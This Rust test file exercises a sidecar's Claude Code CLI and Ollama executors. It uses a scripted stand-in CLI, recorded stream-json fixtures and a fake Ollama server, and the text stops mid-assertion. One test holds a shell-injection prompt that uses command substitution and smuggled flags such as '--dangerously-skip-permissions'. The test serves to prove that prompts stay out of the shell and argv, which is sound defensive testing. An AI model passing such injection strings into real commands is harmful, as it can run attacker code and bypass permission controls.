//! The Claude Code CLI and Ollama executors against test doubles that speak the real wire
//! formats: a stand-in `claude` script emitting `stream-json` lines, and a fake Ollama HTTP
//! server answering `/api/chat` with NDJSON streams and tool calls.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::util::{kinds, Events};
use hub_sidecar::config::Config;
use hub_sidecar::executor::{Attempt, ExecContext, ExecStatus};
use hub_sidecar::process::ChildEnv;
use hub_sidecar::progress::{EventKind, ProgressSink};
use hub_sidecar::task::Task;
use serde_json::{json, Value};
use tokio_util::sync::CancellationToken;

/// An execution context for `task` in `workspace`, recording every progress event.
fn context(
    task: Value,
    workspace: &Path,
    env: ChildEnv,
    cfg: impl FnOnce(&mut Config),
) -> (ExecContext, Events) {
    let mut config = Config::default();
    config.executor.kill_grace_ms = 200;
    config.executor.claude_retry_delays_ms = vec![10, 10, 10];
    cfg(&mut config);
    let events: Events = Arc::default();
    let seen = events.clone();
    let progress = ProgressSink::with_observer(8192, move |e| seen.lock().unwrap().push(e.clone()));
    let ctx = ExecContext {
        task: Arc::new(Task::from_value(task).unwrap()),
        workspace: workspace.to_path_buf(),
        config: Arc::new(config),
        env,
        progress,
        cancel: CancellationToken::new(),
        remaining_budget_usd: None,
    };
    (ctx, events)
}

fn attempt(prompt: &str) -> Attempt {
    Attempt {
        number: 1,
        prompt: prompt.to_string(),
    }
}

/// The pid in `marker` is gone (or a zombie) within 1 s.
async fn assert_gone(marker: &Path) {
    let pid: i32 = std::fs::read_to_string(marker)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    for _ in 0..50 {
        if !crate::procfs::is_live(pid) {
            return;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    panic!("process {pid} survived");
}

/// Wait (bounded) until `path` exists: a signal from a child, not a fixed sleep.
async fn wait_for_file(path: &Path) {
    let until = Instant::now() + Duration::from_secs(10);
    while !path.exists() {
        assert!(Instant::now() < until, "{} never appeared", path.display());
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

mod claude {
    use super::*;
    use hub_sidecar::executor::claude::ClaudeExecutor;

    /// Lines as Claude Code 2.1.x prints them for `-p --output-format stream-json --verbose`
    /// (recorded against a fake Messages API): one `assistant` event per content block, all
    /// sharing the message id and its start-of-message usage; the result's `modelUsage` has
    /// the full figures.
    const SUCCESS: &str = r#"{"type":"system","subtype":"init","cwd":"/w","session_id":"s-1","tools":["Bash","Read","Write"],"mcp_servers":[],"model":"claude-sonnet-4-5-20250929","permissionMode":"acceptEdits","apiKeySource":"ANTHROPIC_API_KEY"}
{"type":"assistant","message":{"id":"msg_01","type":"message","role":"assistant","model":"claude-sonnet-4-5-20250929","content":[{"type":"text","text":"I'll create the file."}],"stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":4,"cache_creation_input_tokens":100,"cache_read_input_tokens":0,"output_tokens":1}},"parent_tool_use_id":null,"session_id":"s-1"}
{"type":"assistant","message":{"id":"msg_01","type":"message","role":"assistant","model":"claude-sonnet-4-5-20250929","content":[{"type":"tool_use","id":"toolu_01","name":"Write","input":{"file_path":"/w/hello.txt","content":"hi\n"}}],"stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":4,"cache_creation_input_tokens":100,"cache_read_input_tokens":0,"output_tokens":1}},"parent_tool_use_id":null,"session_id":"s-1"}
{"type":"user","message":{"role":"user","content":[{"tool_use_id":"toolu_01","type":"tool_result","content":"File created successfully at: /w/hello.txt"}]},"parent_tool_use_id":null,"session_id":"s-1"}
this line is not json and must be skipped
{"type":"assistant","message":{"id":"msg_02","type":"message","role":"assistant","model":"claude-sonnet-4-5-20250929","content":[{"type":"text","text":"Done: hello.txt exists."}],"stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":6,"cache_creation_input_tokens":0,"cache_read_input_tokens":100,"output_tokens":1}},"parent_tool_use_id":null,"session_id":"s-1"}
{"type":"result","subtype":"success","is_error":false,"api_error_status":null,"duration_ms":2400,"duration_api_ms":2300,"num_turns":2,"result":"Done: hello.txt exists.","session_id":"s-1","total_cost_usd":0.0123,"usage":{"input_tokens":10,"cache_creation_input_tokens":100,"cache_read_input_tokens":100,"output_tokens":37,"server_tool_use":{"web_search_requests":0},"service_tier":"standard"},"modelUsage":{"claude-sonnet-4-5-20250929":{"inputTokens":10,"outputTokens":37,"cacheReadInputTokens":100,"cacheCreationInputTokens":100,"webSearchRequests":0,"costUSD":0.0123,"contextWindow":200000,"maxOutputTokens":64000}},"permission_denials":[],"terminal_reason":"completed"}
"#;

    /// A 529 as the CLI reports it after its own retries (`api_retry` events), exit 1.
    const OVERLOADED: &str = r#"{"type":"system","subtype":"init","cwd":"/w","session_id":"s-2","tools":[],"model":"claude-sonnet-4-5-20250929","apiKeySource":"ANTHROPIC_API_KEY"}
{"type":"system","subtype":"api_retry","attempt":1,"max_retries":2,"retry_delay_ms":527.9,"error_status":529,"error":"overloaded","session_id":"s-2"}
{"type":"system","subtype":"api_retry","attempt":2,"max_retries":2,"retry_delay_ms":1130.9,"error_status":529,"error":"overloaded","session_id":"s-2"}
{"type":"assistant","message":{"id":"9090d3d6","container":null,"model":"<synthetic>","role":"assistant","stop_reason":"stop_sequence","stop_sequence":"","type":"message","usage":{"input_tokens":0,"output_tokens":0},"content":[{"type":"text","text":"API Error: 529 Overloaded. This is a server-side issue, usually temporary — try again in a moment."}]},"parent_tool_use_id":null,"session_id":"s-2","error":"server_error","request_id":"req_1"}
{"type":"result","subtype":"success","is_error":true,"api_error_status":529,"duration_ms":2382,"duration_api_ms":0,"num_turns":1,"result":"API Error: 529 Overloaded. This is a server-side issue, usually temporary — try again in a moment.","stop_reason":"stop_sequence","session_id":"s-2","total_cost_usd":0,"usage":{"input_tokens":0,"output_tokens":0},"modelUsage":{},"permission_denials":[]}
"#;

    /// The default permission mode denying the agent's only write: still `success`, exit 0.
    const DENIED: &str = r#"{"type":"system","subtype":"init","cwd":"/w","session_id":"s-3","tools":["Write"],"model":"claude-sonnet-4-5-20250929","permissionMode":"default","apiKeySource":"none"}
{"type":"assistant","message":{"id":"msg_fake1","type":"message","role":"assistant","model":"claude-sonnet-4-5-20250929","content":[{"type":"tool_use","id":"toolu_w1","name":"Write","input":{"file_path":"/w/hello.txt","content":"hi\n"}}],"stop_reason":null,"usage":{"input_tokens":100,"cache_creation_input_tokens":0,"cache_read_input_tokens":0,"output_tokens":1}},"parent_tool_use_id":null,"session_id":"s-3"}
{"type":"user","message":{"role":"user","content":[{"type":"tool_result","content":"Claude requested permissions to write to /w/hello.txt, but you haven't granted it yet.","is_error":true,"tool_use_id":"toolu_w1"}]},"parent_tool_use_id":null,"session_id":"s-3"}
{"type":"assistant","message":{"id":"msg_fake2","type":"message","role":"assistant","model":"claude-sonnet-4-5-20250929","content":[{"type":"text","text":"All done."}],"stop_reason":null,"usage":{"input_tokens":100,"cache_creation_input_tokens":0,"cache_read_input_tokens":0,"output_tokens":1}},"parent_tool_use_id":null,"session_id":"s-3"}
{"type":"result","subtype":"success","is_error":false,"api_error_status":null,"num_turns":2,"result":"All done.","session_id":"s-3","total_cost_usd":0.0035,"usage":{"input_tokens":200,"output_tokens":100},"modelUsage":{"claude-sonnet-4-5-20250929":{"inputTokens":200,"outputTokens":100,"cacheReadInputTokens":0,"cacheCreationInputTokens":0,"costUSD":0.0035}},"permission_denials":[{"tool_name":"Write","tool_use_id":"toolu_w1","tool_input":{"file_path":"/w/hello.txt","content":"hi\n"}}],"terminal_reason":"completed"}
"#;

    /// A stand-in `claude` on a private PATH: a test double speaking the real stream-json
    /// format. It records its argv (NUL-separated), its stdin (the prompt) and how often it
    /// ran, and behaves per the `mode` file: ok, fail_once, fail, overloaded, denied, linger
    /// (result, then never exits), silent (init, then nothing), slow_tool (2 s of silence
    /// between a tool_use and its result), hang.
    struct StandIn {
        dir: tempfile::TempDir,
        workspace: tempfile::TempDir,
    }

    impl StandIn {
        fn new(mode: &str) -> StandIn {
            use std::os::unix::fs::PermissionsExt;
            let dir = tempfile::tempdir().unwrap();
            let d = dir.path();
            std::fs::write(d.join("success.jsonl"), SUCCESS).unwrap();
            std::fs::write(d.join("overloaded.jsonl"), OVERLOADED).unwrap();
            std::fs::write(d.join("denied.jsonl"), DENIED).unwrap();
            std::fs::write(d.join("mode"), mode).unwrap();
            std::fs::create_dir(d.join("bin")).unwrap();
            let script = format!(
                r#"#!/bin/sh
# Test double for the Claude Code CLI (real stream-json lines, scripted behaviour).
D='{}'
: > "$D/argv"
for a in "$@"; do printf '%s\0' "$a" >> "$D/argv"; done
cat > "$D/stdin"
printf '%s' "$CLAUDE_CODE_MAX_RETRIES" > "$D/max_retries"
n=$(cat "$D/count" 2>/dev/null || echo 0); n=$((n+1)); echo "$n" > "$D/count"
case "$(cat "$D/mode")" in
  ok) cat "$D/success.jsonl" ;;
  fail_once) if [ "$n" -eq 1 ]; then echo "Segmentation fault" >&2; exit 139; fi; cat "$D/success.jsonl" ;;
  fail) echo "Segmentation fault" >&2; exit 3 ;;
  overloaded) cat "$D/overloaded.jsonl"; exit 1 ;;
  denied) cat "$D/denied.jsonl" ;;
  linger) cat "$D/success.jsonl"; sleep 30 & echo $! > "$D/pid"; wait ;;
  silent) head -1 "$D/success.jsonl"; sleep 30 & echo $! > "$D/pid"; wait ;;
  slow_tool) head -3 "$D/success.jsonl"; sleep 2; tail -n +4 "$D/success.jsonl" ;;
  hang) sleep 30 & echo $! > "$D/pid"; wait ;;
esac
"#,
                d.display()
            );
            let bin = d.join("bin/claude");
            std::fs::write(&bin, script).unwrap();
            std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
            StandIn {
                dir,
                workspace: tempfile::tempdir().unwrap(),
            }
        }

        fn env(&self) -> ChildEnv {
            let mut env = ChildEnv::inherit();
            let path = std::env::var("PATH").unwrap_or_default();
            env.set(
                "PATH",
                &format!("{}:{path}", self.dir.path().join("bin").display()),
            );
            env
        }

        fn argv(&self) -> Vec<String> {
            let raw = std::fs::read_to_string(self.dir.path().join("argv")).unwrap();
            raw.split('\0')
                .filter(|s| !s.is_empty())
                .map(str::to_string)
                .collect()
        }

        fn stdin(&self) -> String {
            std::fs::read_to_string(self.dir.path().join("stdin")).unwrap()
        }

        fn runs(&self) -> u32 {
            std::fs::read_to_string(self.dir.path().join("count"))
                .map(|s| s.trim().parse().unwrap())
                .unwrap_or(0)
        }

        fn context(&self, task: Value, cfg: impl FnOnce(&mut Config)) -> (ExecContext, Events) {
            context(task, self.workspace.path(), self.env(), cfg)
        }
    }

    fn task() -> Value {
        json!({"task_id": "t-claude", "description": "make hello.txt",
               "routing_decision": {"target_type": "claude", "selected_model": "claude-opus-4-6"}})
    }

    /// The value following `flag` in `argv`.
    fn flag_value<'a>(argv: &'a [String], flag: &str) -> &'a str {
        let i = argv
            .iter()
            .position(|a| a == flag)
            .unwrap_or_else(|| panic!("{flag} missing in {argv:?}"));
        &argv[i + 1]
    }

    #[tokio::test]
    async fn success_parses_tokens_cost_output_and_progress() {
        let s = StandIn::new("ok");
        let (ctx, events) = s.context(task(), |_| {});
        let mut ex = ClaudeExecutor::new(&ctx).unwrap();
        let out = ex.execute(&ctx, &attempt("make hello.txt")).await;
        assert_eq!(out.status, ExecStatus::Succeeded, "{:?}", out.error);
        assert_eq!(out.output, "Done: hello.txt exists.");
        assert_eq!(out.tokens_in, 210, "input + cache creation + cache read");
        assert_eq!(out.tokens_out, 37);
        assert!((out.cost_usd - 0.0123).abs() < 1e-9);
        assert!((out.equivalent_claude_cost_usd - 0.0123).abs() < 1e-9);
        assert!(!out.cost_is_estimate, "an API key's cost is spend");
        assert_eq!(
            out.iterations_used,
            Some(2),
            "two message ids, three events"
        );
        assert_eq!(
            out.model_used.as_deref(),
            Some("claude-sonnet-4-5-20250929")
        );
        let argv = s.argv();
        assert_eq!(
            &argv[..4],
            ["-p", "--output-format", "stream-json", "--verbose"]
        );
        assert_eq!(flag_value(&argv, "--model"), "claude-opus-4-6");
        assert_eq!(flag_value(&argv, "--permission-mode"), "acceptEdits");
        assert_eq!(flag_value(&argv, "--setting-sources"), "user");
        assert!(argv.contains(&"--strict-mcp-config".to_string()));
        assert!(argv.contains(&"--no-session-persistence".to_string()));
        assert_eq!(s.stdin(), "make hello.txt");
        let tokens = kinds(&events, EventKind::Token);
        assert_eq!(tokens.len(), 2);
        assert_eq!(tokens[0].text, "I'll create the file.");
        assert_eq!(tokens[1].tokens_so_far, Some(2));
        let tools = kinds(&events, EventKind::ToolCall);
        assert_eq!(tools.len(), 1);
        assert_eq!(tools[0].fields["tool_name"], "Write");
        assert_eq!(tools[0].fields["args_summary"], "/w/hello.txt");
        assert_eq!(
            tools[0].fields["result_summary"],
            "File created successfully at: /w/hello.txt"
        );
        assert_eq!(tools[0].fields["iteration"], 1);
    }

    #[tokio::test]
    async fn non_claude_selected_model_falls_back_to_the_configured_one() {
        let s = StandIn::new("ok");
        let t = json!({"task_id": "t", "routing_decision": {"target_type": "claude", "selected_model": "qwen3:8b"}});
        let (ctx, _) = s.context(t, |c| c.executor.claude_model = "claude-haiku-4-5".into());
        let out = ClaudeExecutor::new(&ctx)
            .unwrap()
            .execute(&ctx, &attempt("x"))
            .await;
        assert_eq!(out.status, ExecStatus::Succeeded);
        assert_eq!(flag_value(&s.argv(), "--model"), "claude-haiku-4-5");
    }

    #[tokio::test]
    async fn the_prompt_goes_verbatim_on_stdin_never_in_argv() {
        let s = StandIn::new("ok");
        let evil = "fix it $(touch pwned) and `touch pwned2`; echo \"$HOME\" 'quoted' > pwned3 --model evil --dangerously-skip-permissions";
        // Over the 128 KiB a single argv element may have (E2BIG).
        let big = format!("{evil}\n{}", "x".repeat(200 * 1024));
        let (ctx, _) = s.context(json!({"task_id": "t", "description": evil}), |_| {});
        let out = ClaudeExecutor::new(&ctx)
            .unwrap()
            .execute(&ctx, &attempt(&big))
            .await;
        assert_eq!(out.status, ExecStatus::Succeeded, "{:?}", out.error);
        assert_eq!(s.stdin(), big);
        let argv = s.argv();
        assert!(
            !argv
                .iter()
                .any(|a| a.contains("pwned") || a.contains("dangerously")),
            "{argv:?}"
        );
        assert_eq!(flag_value(&argv, "--model"), "claude-sonnet-4-5");
        for dir in [s.workspace.path(), s.dir.path()] {
            for f in ["pwned", "pwned2", "pwned3"] {
                assert!(
                    !dir.join(f).exists(),
                    "{f} was created: the prompt went through a shell"
                );
            }
        }
    }

    #[tokio::test]
    async fn missing_cli_is_a_clear_error() {
        let empty = tempfile::tempdir().unwrap();
        let mut env = ChildEnv::inherit();
        env.set("PATH", &empty.path().display().to_string());
        let (ctx, _) = context(task(), empty.path(), env, |_| {});
        let err = ClaudeExecutor::new(&ctx)
            .err()
            .expect("claude must not be found");
        assert!(
            err.contains("npm install -g @anthropic-ai/claude-code"),
            "{err}"
        );
        assert!(err.contains("executor.claude_path"), "{err}");

        let (ctx, _) = context(task(), empty.path(), ChildEnv::inherit(), |c| {
            c.executor.claude_path = Some(PathBuf::from("/nonexistent/claude"))
        });
        let err = ClaudeExecutor::new(&ctx).err().expect("bad claude_path");
        assert!(err.contains("/nonexistent/claude"), "{err}");
    }

    #[tokio::test]
    async fn a_crashed_run_is_retried_then_succeeds() {
        let s = StandIn::new("fail_once");
        let (ctx, events) = s.context(task(), |_| {});
        let out = ClaudeExecutor::new(&ctx)
            .unwrap()
            .execute(&ctx, &attempt("x"))
            .await;
        assert_eq!(out.status, ExecStatus::Succeeded, "{:?}", out.error);
        assert_eq!(s.runs(), 2);
        assert_eq!(out.tokens_out, 37);
        assert!(
            !kinds(&events, EventKind::Error).is_empty(),
            "the retry is reported"
        );
    }

    #[tokio::test]
    async fn all_retries_crashing_is_failed_with_exit_and_stderr() {
        let s = StandIn::new("fail");
        let (ctx, _) = s.context(task(), |_| {});
        let out = ClaudeExecutor::new(&ctx)
            .unwrap()
            .execute(&ctx, &attempt("x"))
            .await;
        assert_eq!(out.status, ExecStatus::Failed);
        assert_eq!(s.runs(), 4, "one run and three retries");
        let err = out.error.unwrap();
        assert!(err.contains("Segmentation fault"), "{err}");
        assert!(err.contains("gave up after 4 tries"), "{err}");
    }

    #[tokio::test]
    async fn an_api_error_the_cli_already_retried_fails_at_once_naming_its_class() {
        let s = StandIn::new("overloaded");
        let (ctx, events) = s.context(task(), |c| c.executor.claude_retry_delays_ms = vec![10]);
        let out = ClaudeExecutor::new(&ctx)
            .unwrap()
            .execute(&ctx, &attempt("x"))
            .await;
        assert_eq!(out.status, ExecStatus::Failed);
        assert_eq!(s.runs(), 1, "one retry layer only: the CLI's");
        let err = out.error.unwrap();
        assert!(
            err.contains("overloaded") && err.contains("529 Overloaded"),
            "{err}"
        );
        let retries = kinds(&events, EventKind::Error);
        assert_eq!(retries.len(), 2, "each api_retry is reported as progress");
        let bound = std::fs::read_to_string(s.dir.path().join("max_retries")).unwrap();
        assert_eq!(bound, "4", "the CLI's own retries are bounded");
    }

    #[tokio::test]
    async fn a_run_whose_only_write_was_denied_is_not_a_success() {
        let s = StandIn::new("denied");
        let (ctx, events) = s.context(task(), |_| {});
        let out = ClaudeExecutor::new(&ctx)
            .unwrap()
            .execute(&ctx, &attempt("x"))
            .await;
        assert_eq!(out.status, ExecStatus::Failed);
        assert_eq!(s.runs(), 1);
        let err = out.error.unwrap();
        assert!(
            err.contains("Write(/w/hello.txt)") && err.contains("claude_allowed_tools"),
            "{err}"
        );
        assert_eq!(out.permission_denials, ["Write(/w/hello.txt)"]);
        // apiKeySource "none" is a subscription login: the cost is an estimate.
        assert!(out.cost_is_estimate);
        assert!(kinds(&events, EventKind::Status)
            .iter()
            .any(|e| e.text.contains("estimate")));
    }

    #[tokio::test]
    async fn a_cli_lingering_after_its_result_is_stopped_and_the_run_succeeds() {
        let s = StandIn::new("linger");
        let (ctx, _) = s.context(task(), |c| {
            c.executor.claude_result_grace_ms = 100;
            c.executor.trivial_timeout_secs = 20;
            c.executor.standard_timeout_secs = 20;
        });
        let out = ClaudeExecutor::new(&ctx)
            .unwrap()
            .execute(&ctx, &attempt("x"))
            .await;
        assert_eq!(out.status, ExecStatus::Succeeded, "{:?}", out.error);
        assert_eq!(out.output, "Done: hello.txt exists.");
        assert_eq!(s.runs(), 1);
        assert_gone(&s.dir.path().join("pid")).await;
    }

    #[tokio::test]
    async fn a_silent_stream_is_killed_by_the_watchdog() {
        let s = StandIn::new("silent");
        let (ctx, _) = s.context(task(), |c| c.executor.claude_idle_timeout_secs = 1);
        let out = ClaudeExecutor::new(&ctx)
            .unwrap()
            .execute(&ctx, &attempt("x"))
            .await;
        assert_eq!(out.status, ExecStatus::Failed);
        assert_eq!(s.runs(), 1);
        let err = out.error.unwrap();
        assert!(err.contains("printed nothing for 1 s"), "{err}");
        assert_gone(&s.dir.path().join("pid")).await;
    }

    #[tokio::test]
    async fn silence_while_a_tool_runs_is_not_idleness() {
        // init, text, tool_use … 2 s of silence (the tool working) … result.
        let s = StandIn::new("slow_tool");
        let (ctx, _) = s.context(task(), |c| c.executor.claude_idle_timeout_secs = 1);
        let out = ClaudeExecutor::new(&ctx)
            .unwrap()
            .execute(&ctx, &attempt("x"))
            .await;
        assert_eq!(out.status, ExecStatus::Succeeded, "{:?}", out.error);
        assert_eq!(out.output, "Done: hello.txt exists.");
    }

    #[tokio::test]
    async fn timeout_kills_the_process_group() {
        let s = StandIn::new("hang");
        let t = json!({"task_id": "t", "complexity": {"effective_tier": "trivial"},
                       "routing_decision": {"target_type": "claude"}});
        let (ctx, _) = s.context(t, |c| c.executor.trivial_timeout_secs = 1);
        let started = Instant::now();
        let out = ClaudeExecutor::new(&ctx)
            .unwrap()
            .execute(&ctx, &attempt("x"))
            .await;
        assert_eq!(out.status, ExecStatus::TimedOut);
        assert!(started.elapsed() < Duration::from_secs(5));
        assert_eq!(s.runs(), 1, "a timeout is not retried");
        assert_gone(&s.dir.path().join("pid")).await;
    }

    #[tokio::test]
    async fn cancellation_stops_within_a_second_and_leaves_no_process() {
        let s = StandIn::new("hang");
        let (ctx, _) = s.context(task(), |_| {});
        let mut ex = ClaudeExecutor::new(&ctx).unwrap();
        let run_ctx = ctx.clone();
        let handle = tokio::spawn(async move { ex.execute(&run_ctx, &attempt("x")).await });
        wait_for_file(&s.dir.path().join("pid")).await;
        let cancelled_at = Instant::now();
        ctx.cancel.cancel();
        let out = tokio::time::timeout(Duration::from_secs(1), handle)
            .await
            .expect("cancel took over 1 s")
            .unwrap();
        assert!(cancelled_at.elapsed() < Duration::from_secs(1));
        assert_eq!(out.status, ExecStatus::Cancelled);
        assert_eq!(s.runs(), 1, "a cancelled run is not retried");
        assert_gone(&s.dir.path().join("pid")).await;
    }
}

mod ollama {
    use super::*;
    use crate::fakes::{answer, streamed, tool_calls, FakeOllama, Reply, MODEL};
    use hub_sidecar::executor::ollama::OllamaExecutor;

    fn task(server: &FakeOllama, agentic: bool, tier: &str) -> Value {
        json!({"task_id": "t-ollama", "description": "do it", "metadata": {"agentic": agentic},
               "routing_decision": {"target_type": "ollama", "effective_tier": tier,
                                    "selected_endpoint": server.endpoint(), "selected_model": MODEL}})
    }

    /// The contents of the `role: tool` messages in a request.
    fn tool_messages(req: &Value) -> Vec<String> {
        req["messages"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|m| m["role"] == "tool")
            .map(|m| m["content"].as_str().unwrap().to_string())
            .collect()
    }

    async fn run(
        server: &FakeOllama,
        task: Value,
        ws: &Path,
        cfg: impl FnOnce(&mut Config),
    ) -> (hub_sidecar::executor::ExecOutcome, Events) {
        let _ = server;
        let (ctx, events) = context(task, ws, ChildEnv::inherit(), cfg);
        let mut ex = OllamaExecutor::new(&ctx).unwrap();
        (ex.execute(&ctx, &attempt("do it")).await, events)
    }

    /// The agentic loop runs what the answer says: plain http to another host is refused
    /// before any request (the name below is never resolved), unless the operator opts in;
    /// plain chat there is fine, and so is loopback.
    #[tokio::test]
    async fn the_agentic_loop_refuses_plain_http_to_another_host_unless_allowed() {
        let ws = tempfile::tempdir().unwrap();
        let remote = |agentic: bool| {
            json!({"task_id": "t", "description": "d", "metadata": {"agentic": agentic},
                "routing_decision": {"target_type": "ollama", "selected_endpoint": "gpu-box.invalid:11434", "selected_model": "m"}})
        };
        let (ctx, _) = context(remote(true), ws.path(), ChildEnv::inherit(), |_| {});
        let err = OllamaExecutor::new(&ctx).err().expect("refused");
        assert!(
            err.contains("refused") && err.contains("ollama_allow_insecure_remote"),
            "{err}"
        );
        let (ctx, _) = context(remote(true), ws.path(), ChildEnv::inherit(), |c| {
            c.executor.ollama_allow_insecure_remote = true
        });
        assert!(OllamaExecutor::new(&ctx).is_ok());
        let (ctx, _) = context(remote(false), ws.path(), ChildEnv::inherit(), |_| {});
        assert!(
            OllamaExecutor::new(&ctx).is_ok(),
            "plain chat runs no tools"
        );
        let local = json!({"task_id": "t", "description": "d",
            "routing_decision": {"target_type": "ollama", "selected_endpoint": "127.0.0.1:11434"}});
        let (ctx, _) = context(local, ws.path(), ChildEnv::inherit(), |_| {});
        assert!(OllamaExecutor::new(&ctx).is_ok());
    }

    /// An endpoint that never stops answering cannot grow the daemon without bound.
    #[tokio::test]
    async fn an_endless_response_is_cut_off() {
        // One line of 9 MiB, never finished by a newline the parser could use.
        let big = json!("x".repeat(9 << 20));
        // Every try of the executor's retries gets the same.
        let server = FakeOllama::start(
            (0..3)
                .map(|_| crate::fakes::Reply::Ndjson(vec![big.clone()]))
                .collect(),
        )
        .await;
        let ws = tempfile::tempdir().unwrap();
        let (out, _) = run(&server, task(&server, false, "standard"), ws.path(), |_| {}).await;
        assert_eq!(out.status, ExecStatus::Failed);
        assert!(
            out.error
                .as_deref()
                .unwrap_or("")
                .contains("refusing to read more"),
            "{:?}",
            out.error
        );
    }

    #[tokio::test]
    async fn plain_streaming_counts_tokens_and_keeps_history() {
        let server = FakeOllama::start(vec![
            streamed(&["Hello", ", ", "world"], 12, 3),
            streamed(&["Fixed"], 30, 1),
        ])
        .await;
        let ws = tempfile::tempdir().unwrap();
        let (ctx, events) = context(
            task(&server, false, "standard"),
            ws.path(),
            ChildEnv::inherit(),
            |_| {},
        );
        let mut ex = OllamaExecutor::new(&ctx).unwrap();
        assert!(!ex.is_agentic());
        let out = ex.execute(&ctx, &attempt("say hello")).await;
        assert_eq!(out.status, ExecStatus::Succeeded, "{:?}", out.error);
        assert_eq!(out.output, "Hello, world");
        assert_eq!((out.tokens_in, out.tokens_out), (12, 3));
        assert_eq!(out.cost_usd, 0.0);
        assert!(
            (out.equivalent_claude_cost_usd - hub_sidecar::cost::equivalent_claude_cost(12, 3))
                .abs()
                < 1e-12
        );
        assert_eq!(out.model_used.as_deref(), Some(MODEL));
        let tokens = kinds(&events, EventKind::Token);
        assert_eq!(
            tokens.iter().map(|e| e.text.as_str()).collect::<String>(),
            "Hello, world"
        );

        let second = Attempt {
            number: 2,
            prompt: "now fix it".into(),
        };
        let out = ex.execute(&ctx, &second).await;
        assert_eq!(out.output, "Fixed");
        let reqs = server.requests();
        assert_eq!(reqs[0]["model"], MODEL);
        assert_eq!(reqs[0]["stream"], true);
        assert_eq!(
            reqs[0]["messages"],
            json!([{"role": "user", "content": "say hello"}])
        );
        // A follow-up is short: the corrective prompt alone (it restates the task and sums
        // up the earlier attempts), never the transcript plus another copy of the task.
        assert_eq!(
            reqs[1]["messages"],
            json!([{"role": "user", "content": "now fix it"}])
        );
        assert_eq!(reqs[0]["options"]["num_ctx"], 16_384);
        assert_eq!(reqs[1]["options"]["num_ctx"], 16_384);
    }

    #[tokio::test]
    async fn a_prompt_that_fills_num_ctx_is_reported() {
        let server = FakeOllama::start(vec![streamed(&["ok"], 4096, 1)]).await;
        let ws = tempfile::tempdir().unwrap();
        let (out, events) = run(&server, task(&server, false, "standard"), ws.path(), |c| {
            c.executor.ollama_num_ctx = 4096
        })
        .await;
        assert_eq!(out.status, ExecStatus::Succeeded);
        assert_eq!(server.requests()[0]["options"]["num_ctx"], 4096);
        let errors = kinds(&events, EventKind::Error);
        assert!(
            errors
                .iter()
                .any(|e| e.text.contains("num_ctx 4096") && e.text.contains("cut its beginning")),
            "{errors:?}"
        );
        // Well inside the window: nothing reported.
        let server = FakeOllama::start(vec![streamed(&["ok"], 100, 1)]).await;
        let (_, events) = run(&server, task(&server, false, "standard"), ws.path(), |c| {
            c.executor.ollama_num_ctx = 4096
        })
        .await;
        assert!(kinds(&events, EventKind::Error).is_empty());
    }

    #[tokio::test]
    async fn http_500_is_retried_and_ollama_url_is_the_fallback_endpoint() {
        let server = FakeOllama::start(vec![
            Reply::Status(500, "overloaded".into()),
            Reply::Status(500, "overloaded".into()),
            streamed(&["ok"], 1, 1),
        ])
        .await;
        let ws = tempfile::tempdir().unwrap();
        let t = json!({"task_id": "t", "metadata": {"agentic": false}, "routing_decision": {"target_type": "ollama"}});
        let url = format!("http://{}", server.endpoint());
        let (out, events) = run(&server, t, ws.path(), |c| c.ollama_url = Some(url)).await;
        assert_eq!(out.status, ExecStatus::Succeeded, "{:?}", out.error);
        assert_eq!(out.output, "ok");
        assert_eq!(
            out.model_used.as_deref(),
            Some("qwen3:8b"),
            "config default model"
        );
        assert_eq!(server.requests().len(), 3);
        assert_eq!(
            kinds(&events, EventKind::Error).len(),
            2,
            "each retry is reported"
        );
    }

    #[tokio::test]
    async fn a_call_over_ollama_timeout_secs_is_retried() {
        let server = FakeOllama::start(vec![Reply::Hang, streamed(&["late"], 2, 1)]).await;
        let ws = tempfile::tempdir().unwrap();
        let t = task(&server, false, "standard");
        let (out, _) = run(&server, t, ws.path(), |c| {
            c.executor.ollama_timeout_secs = 1
        })
        .await;
        assert_eq!(out.status, ExecStatus::Succeeded, "{:?}", out.error);
        assert_eq!(out.output, "late");
        assert_eq!(server.requests().len(), 2);
    }

    #[tokio::test]
    async fn http_500_always_fails_with_status_and_body_snippet() {
        let body = format!("model runner crashed: {}", "x".repeat(2000));
        let server =
            FakeOllama::start((0..3).map(|_| Reply::Status(500, body.clone())).collect()).await;
        let ws = tempfile::tempdir().unwrap();
        let (out, _) = run(&server, task(&server, false, "standard"), ws.path(), |_| {}).await;
        assert_eq!(out.status, ExecStatus::Failed);
        assert_eq!(server.requests().len(), 3, "one call and two retries");
        let err = out.error.unwrap();
        assert!(
            err.contains("500") && err.contains("model runner crashed"),
            "{err}"
        );
        assert!(
            err.len() < 1000,
            "the body is cut to 500 chars: {}",
            err.len()
        );
        assert!(err.contains(&server.endpoint()), "{err}");
    }

    #[tokio::test]
    async fn agentic_final_answer_after_a_write() {
        let server = FakeOllama::start(vec![
            tool_calls(&[(
                "write_file",
                json!({"path": "src/hello.txt", "content": "hi\n"}),
            )]),
            tool_calls(&[("run_command", json!({"command": "cat src/hello.txt"}))]),
            answer("Created src/hello.txt."),
        ])
        .await;
        let ws = tempfile::tempdir().unwrap();
        let (out, events) = run(&server, task(&server, true, "standard"), ws.path(), |_| {}).await;
        assert_eq!(out.status, ExecStatus::Succeeded, "{:?}", out.error);
        assert_eq!(out.termination_reason.as_deref(), Some("final_answer"));
        assert_eq!(out.iterations_used, Some(3));
        assert_eq!(out.output, "Created src/hello.txt.");
        assert_eq!(
            (out.tokens_in, out.tokens_out),
            (250, 25),
            "summed over calls"
        );
        assert_eq!(
            std::fs::read_to_string(ws.path().join("src/hello.txt")).unwrap(),
            "hi\n"
        );
        let reqs = server.requests();
        assert_eq!(reqs[0]["stream"], false);
        let names: Vec<&str> = reqs[0]["tools"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t["function"]["name"].as_str().unwrap())
            .collect();
        assert_eq!(
            names,
            [
                "read_file",
                "write_file",
                "list_directory",
                "run_command",
                "search_files"
            ]
        );
        assert_eq!(reqs[0]["messages"][0]["role"], "system");
        assert_eq!(
